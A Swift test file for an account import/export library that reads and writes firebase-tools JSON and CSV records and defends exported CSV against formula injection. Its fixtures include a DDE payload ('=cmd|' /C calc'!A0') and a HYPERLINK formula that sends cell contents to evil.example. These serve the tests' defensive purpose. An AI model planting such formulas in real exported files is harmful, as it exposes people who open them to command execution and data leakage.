import Foundation
import Testing
import VinculaCore

struct ExportedAccountTests {
    private func read(_ text: String, _ format: ExportFormat = .json) throws(ImportFault) -> ExportedAccount {
        try ExportedAccount(ExportRecord(number: 1, end: 0, bytes: Array(text.utf8)), format)
    }

    @Test func `a record of firebase-tools`() throws {
        let read = try read(
            #"""
            {"localId":"u1","email":"ana@example.com","emailVerified":true,"passwordHash":"aGFzaA==","salt":"c2FsdA==",
             "displayName":"Ana","photoUrl":"https://a.example/p","lastSignedInAt":"1494973523000","createdAt":"1494973523001",
             "phoneNumber":"+15550100001","disabled":true,"customAttributes":"{\"role\":\"x\"}",
             "providerUserInfo":[{"providerId":"google.com","rawId":"g","email":"a@gmail.com","displayName":"A","photoUrl":null}]}
            """#)
        let account = read.account
        #expect(account.id == "u1" && account.email == "ana@example.com" && account.emailVerified && account.isDisabled)
        #expect(account.passwordHash == "aGFzaA==" && account.salt == "c2FsdA==" && account.displayName == "Ana")
        #expect(account.createdAt == 1_494_973_523_001 && account.lastSignInAt == 1_494_973_523_000)
        #expect(account.phone == "+15550100001" && account.customClaims == #"{"role":"x"}"#)
        #expect(account.links.map(\.provider) == ["google.com"] && account.links.first?.email == "a@gmail.com")
        #expect(read.withoutPlace.isEmpty && read.authenticators == 0)
    }

    @Test func `a record of batchGet, with second factors and members without a place`() throws {
        let read = try read(
            #"""
            {"localId":"u1","lastLoginAt":"5","passwordUpdatedAt":1494973523001.0,"validSince":"7","version":0,"screenName":"s",
             "newThing":{},"mfaInfo":[{"mfaEnrollmentId":"m","phoneInfo":"+*******0001","unobfuscatedPhoneInfo":"+15550100001",
             "enrolledAt":"2024-01-31T12:00:00Z","displayName":"d"},{"mfaEnrollmentId":"t","totpInfo":{}}]}
            """#)
        #expect(read.account.lastSignInAt == 5 && read.account.passwordUpdatedAt == 1_494_973_523_001)
        #expect(read.account.factors.map(\.phone) == ["+15550100001"] && read.authenticators == 1)
        #expect(read.withoutPlace == ["screenName", "newThing"])
    }

    @Test(arguments: [
        "[]", "1", "{", #"{"localId":1}"#, #"{"emailVerified":"true"}"#, #"{"createdAt":"soon"}"#, #"{"createdAt":1e300}"#,
        #"{"providerUserInfo":{}}"#, #"{"providerUserInfo":[1]}"#, #"{"providerUserInfo":[{"token":"x"}]}"#,
        #"{"mfaInfo":[{"emailInfo":{}}]}"#, #"{"localId":"a","localId":"b"}"#,
    ])
    func `a value of another type is refused, and so is an unknown member of a link`(text: String) {
        #expect(throws: ImportFault.self) { try read(text) }
    }

    @Test func `a quote is doubled also if a combining mark follows it`() {
        let quotes = CSVFields.field("x\"\u{301}\n=HYPERLINK(1)").unicodeScalars.filter { $0 == "\"" }
        #expect(quotes.count == 4)
    }

    private static func csv(_ cells: [Int: String], columns: Int = 28) -> [UInt8] {
        let fields = (0..<columns).map { CSVFields.field(CSVFields.withoutFormula(cells[$0] ?? "")) }
        return Array(fields.joined(separator: ",").utf8)
    }

    @Test(
        arguments: [
            [
                0: "u1", 1: "ana@example.com", 2: "true", 3: "aGFzaA==", 4: "c2FsdA==", 23: "1", 24: "2", 26: "true",
                27: #"{"a":1}"#,
            ],
            [0: "=cmd|' /C calc'!A0", 5: "=HYPERLINK(\"https://a.example\")", 6: "+1", 7: "g", 9: "@SUM(1)", 11: "-1"],
            [0: "u2", 5: "Ana\nroot,root@example.com,true", 6: "x\r\n\"y\",z", 27: "{\"a\":\"\n,\"}"],
            [0: "u3", 5: "'=quoted", 6: "\u{2028}\t", 25: "15550100001", 2: "maybe"],
            [0: "u4", 23: "soon"], [0: "u5", 26: "perhaps"], [1: "nobody@example.com"],
        ] as [[Int: String]])
    func `a record of CSV and the object for it read the same, whatever is in its cells`(cells: [Int: String]) throws {
        let bytes = Self.csv(cells)
        let line = JSONValue.object(try ExportedAccount.members(ofCSV: bytes)).text
        #expect(!line.contains { $0.isNewline && $0 != "\u{2028}" })
        func account(_ bytes: [UInt8], _ format: ExportFormat) throws(ImportFault) -> GivenAccount {
            try ExportedAccount(ExportRecord(number: 1, end: 0, bytes: bytes), format).account
        }
        func outcome(_ bytes: [UInt8], _ format: ExportFormat) -> String {
            do throws(ImportFault) { return "\(try account(bytes, format))" } catch { return error.message }
        }
        #expect(outcome(Array(line.utf8), .jsonl) == outcome(bytes, .csv))
        if let account = try? account(bytes, .csv) {
            #expect(account.id == cells[0] && account.displayName == cells[5] && account.photoURL == cells[6])
        }
    }

    @Test func `a record with other columns is no object`() {
        for columns in [1, 27, 29, 30] {
            let bytes = Self.csv([columns - 1: "rest"], columns: columns)
            #expect(throws: ImportFault.self) { try ExportedAccount.members(ofCSV: bytes) }
        }
        #expect(throws: ImportFault.self) { try ExportedAccount.members(ofCSV: Array("\"open".utf8)) }
        #expect(throws: ImportFault.self) { try ExportedAccount.members(ofCSV: [0xFF, 0x2C]) }
    }

    @Test func `a line of firebase-tools`() throws {
        var fields = Array(repeating: "", count: 28)
        (fields[0], fields[1], fields[2], fields[5]) = ("u1", "ana@example.com", "true", "\"Ana, B\"")
        (fields[11], fields[12], fields[19]) = ("f", "a@fb.example", "h")
        (fields[23], fields[24], fields[26], fields[27]) = ("1", "2", "false", #""{""a"":1}""#)
        let read = try read(fields.joined(separator: ",") + ",", .csv)
        #expect(read.account.id == "u1" && read.account.displayName == "Ana, B" && read.account.emailVerified)
        #expect(read.account.links.map(\.provider) == ["facebook.com", "github.com"])
        #expect(read.account.createdAt == 1 && read.account.lastSignInAt == 2 && read.account.customClaims == #"{"a":1}"#)
        #expect(read.account.phone == nil && read.account.passwordHash == nil)
        #expect(throws: ImportFault.self) { try self.read("a,b,c", .csv) }
        fields[26] = "maybe"
        #expect(throws: ImportFault.self) { try self.read(fields.joined(separator: ","), .csv) }
    }

    /// The members that firebase-tools' auth:import accepts; it refuses a file with any other.
    private static let known: Set = [
        "localId", "email", "emailVerified", "passwordHash", "salt", "displayName", "photoUrl", "createdAt", "lastSignedInAt",
        "providerUserInfo", "phoneNumber", "disabled", "customAttributes",
    ]

    private func account() throws -> Account {
        var account = Account(id: AccountID("u1"), createdAt: Timestamp(milliseconds: 1))
        account.email = EmailAddress("ana@example.com")
        account.emailVerified = true
        (account.displayName, account.photoURL) = ("Ana \"A\", B", "https://a.example/p")
        account.customClaims = try CustomClaims(#"{"a":"x\"y"}"#)
        account.initialEmail = EmailAddress("old@example.com")
        account.isDisabled = true
        for provider in [ProviderID.google, .apple] {
            account.identities.append(
                Identity(
                    key: IdentityKey(provider: provider, issuer: provider.canonicalIssuer, subject: "s"),
                    email: EmailAddress("a@gmail.com"), profile: Profile(displayName: "A")))
        }
        account.phone = PhoneNumber("+15550100001")
        account.secondFactors = [
            SecondFactor(
                id: SecondFactorID("m"), displayName: "d", enrolledAt: Timestamp(milliseconds: 5),
                means: .phone(try #require(PhoneNumber("+15550100002")))),
            SecondFactor(
                id: SecondFactorID("t"), displayName: nil, enrolledAt: Timestamp(milliseconds: 5), sealedSecret: Data("s".utf8),
                lastPeriod: 0),
        ]
        return account
    }

    @Test func `what is exported can be read again, and by firebase-tools, too`() throws {
        let account = try account()
        let hash = (tag: Data("tag".utf8), salt: Data("salt".utf8))
        let simple = AccountExport(isComplete: false).json(account, hash: hash)
        let members = try #require(try JSONSerialization.jsonObject(with: Data(simple.utf8)) as? [String: Any])
        #expect(Set(members.keys).isSubset(of: Self.known))
        let links = try #require(members["providerUserInfo"] as? [[String: Any]])
        #expect(links.map { $0["providerId"] as? String } == ["google.com"])
        #expect(AccountExport(isComplete: false).omissions(of: account) == 3)

        let complete = try read(AccountExport(isComplete: true).json(account, hash: hash))
        #expect(complete.account.links.map(\.provider) == ["google.com", "apple.com"])
        #expect(complete.account.factors.map(\.phone) == ["+15550100002"] && complete.authenticators == 1)
        #expect(complete.account.initialEmail == "old@example.com" && complete.withoutPlace.isEmpty)
        #expect(AccountExport(isComplete: true).omissions(of: account) == 0)

        for again in [try read(simple), try read(AccountExport.csv(account, hash: hash), .csv)] {
            #expect(again.account.id == "u1" && again.account.email == "ana@example.com" && again.account.emailVerified)
            #expect(again.account.displayName == account.displayName && again.account.customClaims == account.customClaims?.text)
            #expect(again.account.passwordHash == "dGFn" && again.account.salt == "c2FsdA==" && again.account.isDisabled)
            #expect(again.account.phone == "+15550100001" && again.account.createdAt == 1)
            #expect(again.account.links.map(\.provider) == ["google.com"])
        }
    }

    @Test("T161 no text that users choose is a formula in CSV; numbers, base64 and plain ids stay as firebase-tools reads them")
    func formulas() throws {
        let formula = #"=HYPERLINK("https://evil.example/?"&A1,"x")"#
        func account(_ id: String) throws -> Account {
            var account = Account(id: AccountID(id), createdAt: Timestamp(milliseconds: 1))
            account.email = EmailAddress(canonical: "-2+3@example.com")
            (account.displayName, account.photoURL) = (formula, "@" + formula)
            account.phone = PhoneNumber("+15550100001")
            account.identities.append(
                Identity(
                    key: IdentityKey(provider: .google, issuer: ProviderID.google.canonicalIssuer, subject: formula),
                    email: EmailAddress(canonical: "+x@gmail.com"), profile: Profile(displayName: formula, photoURL: formula)))
            return account
        }
        let tag = Data([0xFB, 0xEF, 0xBE])
        for (id, cell) in [("-Kx_9", "-Kx_9"), ("-1+1", "'-1+1"), ("=a", "'=a"), ("a=", "a=")] {
            let line = AccountExport.csv(try account(id), hash: (tag, tag))
            let cells = try #require(CSVFields.split(Array(line.utf8)))
            #expect(cells[0] == cell && cells[3] == "++++" && cells[4] == "++++" && cells[25] == "+15550100001")
            for column in [1, 5, 6, 7, 8, 9, 10] { #expect(cells[column].hasPrefix("'"), "\(column)") }
            let formulas = cells.indices.filter { ["=", "+", "-", "@"].contains(cells[$0].prefix(1)) }
            #expect(Set(formulas).isSubset(of: [0, 3, 4, 25]))
            let again = try read(line, .csv).account
            #expect(again.id == id && again.email == "-2+3@example.com" && again.phone == "+15550100001")
            #expect(again.displayName == formula && again.photoURL == "@" + formula && again.passwordHash == "++++")
            let link = try #require(again.links.first)
            #expect(link.subject == formula && link.email == "+x@gmail.com")
            #expect(link.displayName == formula && link.photoURL == formula)
        }
    }
}
